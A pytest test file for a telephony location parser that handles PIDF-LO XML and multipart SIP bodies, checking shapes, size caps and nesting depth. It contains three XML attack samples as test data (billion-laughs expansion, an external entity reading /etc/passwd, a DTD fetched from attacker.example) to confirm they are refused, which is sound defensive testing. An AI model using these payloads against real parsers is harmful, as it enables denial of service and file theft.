from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from telephony.location.body import body_parts, find_pidf
from telephony.location.pidf import MAX_DEPTH, PidfLocation, parse_pidf
from telephony.location.unparsed import MAX_BODY_BYTES, Unparsed

DATA = Path(__file__).parent / "data" / "location"
MULTIPART = 'multipart/mixed;boundary="boundary1"'


def _pidf(name: str) -> PidfLocation:
    result = parse_pidf((DATA / name).read_bytes())
    assert isinstance(result, PidfLocation), result
    return result


def test_circle() -> None:
    location = _pidf("pidf_circle.xml")
    (shape,) = location.shapes
    assert (shape.kind, shape.lat, shape.lon, shape.radius_m) == ("Circle", -7.9826, 112.6308,
                                                                  18.0)
    assert location.method == "GPS"
    assert location.best is shape


def test_point() -> None:
    location = _pidf("pidf_point.xml")
    assert location.best is not None
    assert (location.best.kind, location.best.lat, location.best.lon) == ("Point", -7.2458,
                                                                          112.7378)
    assert location.best.radius_m is None
    assert location.method == "Cell"


def test_other_shapes_are_kept_raw_and_the_first_usable_wins() -> None:
    location = _pidf("pidf_shapes.xml")
    kinds = [shape.kind for shape in location.shapes]
    assert kinds == ["civicAddress", "ArcBand", "Ellipse", "Polygon"]
    civic, arc, ellipse, polygon = location.shapes
    assert not civic.has_position and "Kota Surabaya" in civic.raw
    assert not arc.has_position and "innerRadius" in arc.raw
    assert location.best is ellipse and ellipse.radius_m == 250.0
    assert polygon.lat == pytest.approx(-7.8775)


def test_str_input_is_accepted() -> None:
    assert isinstance(parse_pidf((DATA / "pidf_point.xml").read_text()), PidfLocation)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf">&lol3;</presence>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf">&xxe;</presence>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/evil.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_xml_attacks_are_refused(document: bytes) -> None:
    result = parse_pidf(document)
    assert isinstance(result, Unparsed)
    assert result.reason == "xml-forbidden"
    assert result.raw == document


def test_huge_document_is_refused_before_parsing() -> None:
    document = b"<presence>" + b" " * MAX_BODY_BYTES + b"</presence>"
    result = parse_pidf(document)
    assert isinstance(result, Unparsed) and result.reason == "too-large"


def test_deep_nesting_within_the_cap_is_harmless() -> None:
    depth = 5_000
    document = b'<presence xmlns="urn:ietf:params:xml:ns:pidf">' + b"<a>" * depth
    document += b"</a>" * depth + b"</presence>"
    assert isinstance(parse_pidf(document), Unparsed)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"", "bad-xml"),
        (b"<presence", "bad-xml"),
        (b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "not-pidf"),
        (b"<presence xmlns='urn:ietf:params:xml:ns:pidf'/>", "no-location"),
        (b"\xff\xfe<\x00", "bad-xml"),
    ],
)
def test_not_a_pidf(document: bytes, reason: str) -> None:
    result = parse_pidf(document)
    assert isinstance(result, Unparsed) and result.reason == reason


def test_multipart_body_by_content_id() -> None:
    body = (DATA / "invite_multipart.bin").read_bytes()
    parts = body_parts(MULTIPART, body)
    assert not isinstance(parts, Unparsed)
    assert [p.content_type for p in parts] == ["application/sdp", "application/pidf+xml"]
    assert parts[0].data.startswith(b"v=0\r\n") and parts[0].data.endswith(b"8000\r\n")
    part = find_pidf(MULTIPART, body, "target123@ims.mnc010.mcc510.3gppnetwork.org")
    assert not isinstance(part, Unparsed)
    assert part.content_id == "target123@ims.mnc010.mcc510.3gppnetwork.org"
    assert isinstance(parse_pidf(part.data), PidfLocation)


def test_multipart_without_matching_content_id_still_finds_the_pidf() -> None:
    body = (DATA / "invite_multipart.bin").read_bytes()
    part = find_pidf(MULTIPART, body, "someone-else@example")
    assert not isinstance(part, Unparsed) and part.content_type == "application/pidf+xml"


def test_nested_multipart_and_lf_line_endings() -> None:
    pidf = (DATA / "pidf_point.xml").read_bytes()
    body = (
        b"--outer\nContent-Type: application/sdp\n\nv=0\n"
        b"--outer\nContent-Type: multipart/related; boundary=inner\n\n"
        b"--inner\nContent-Type: application/pidf+xml\nContent-ID: <loc@x>\n\n" + pidf +
        b"\n--inner--\n"
        b"\n--outer--\n"
    )
    part = find_pidf("multipart/mixed; boundary=outer", body, "loc@x")
    assert not isinstance(part, Unparsed) and part.data == pidf


def test_single_part_pidf_body() -> None:
    pidf = (DATA / "pidf_point.xml").read_bytes()
    part = find_pidf("application/pidf+xml", pidf, None)
    assert not isinstance(part, Unparsed) and part.data == pidf


@pytest.mark.parametrize(
    ("content_type", "body", "reason"),
    [
        ("application/sdp", b"v=0\r\n", "no-pidf"),
        ("multipart/mixed", b"--x\r\n\r\n", "bad-multipart"),
        ("multipart/mixed;boundary=zz", b"no delimiter at all", "bad-multipart"),
        ('multipart/mixed;boundary="b"', b"--b\r\n" + b"x" * MAX_BODY_BYTES, "too-large"),
    ],
)
def test_bodies_without_a_pidf(content_type: str, body: bytes, reason: str) -> None:
    result = find_pidf(content_type, body, None)
    assert isinstance(result, Unparsed) and result.reason == reason


def test_indented_body_as_a_test_harness_may_send_it() -> None:
    pidf = (DATA / "pidf_point.xml").read_text()
    lines = [
        "--loc-boundary", "Content-Type: application/sdp", "", "v=0",
        "--loc-boundary", "Content-Type: application/pidf+xml",
        "Content-ID: <loc-1@mno.example>", "", *pidf.splitlines(), "--loc-boundary--",
    ]
    body = "\r\n".join("      " + line for line in lines).encode()
    part = find_pidf("multipart/mixed;boundary=loc-boundary", body, "loc-1@mno.example")
    assert not isinstance(part, Unparsed) and part.content_id == "loc-1@mno.example"
    assert isinstance(parse_pidf(part.data), PidfLocation)


def _nested(depth: int, leaf: str = "a") -> str:
    """A PIDF-LO whose location-info holds `depth` nested elements."""
    return (
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"><tuple><status><gp:geopriv>'
        f'<gp:location-info>{f"<{leaf}>" * depth}{f"</{leaf}>" * depth}</gp:location-info>'
        "</gp:geopriv></status></tuple></presence>"
    )


@settings(max_examples=40, deadline=None)
@given(st.integers(min_value=MAX_DEPTH, max_value=(MAX_BODY_BYTES - 300) // 7))
def test_deep_nesting_is_unparsed_not_a_recursion_error(depth: int) -> None:
    # Issue 12: 1,100 levels raised RecursionError out of parse_pidf.
    document = _nested(depth)
    assert len(document) <= MAX_BODY_BYTES
    result = parse_pidf(document)
    assert isinstance(result, Unparsed) and result.reason == "too-deep", result


def test_nesting_within_the_bound_still_parses() -> None:
    result = parse_pidf(_nested(MAX_DEPTH - 6))
    assert isinstance(result, PidfLocation)
    assert result.shapes[0].kind == "a"
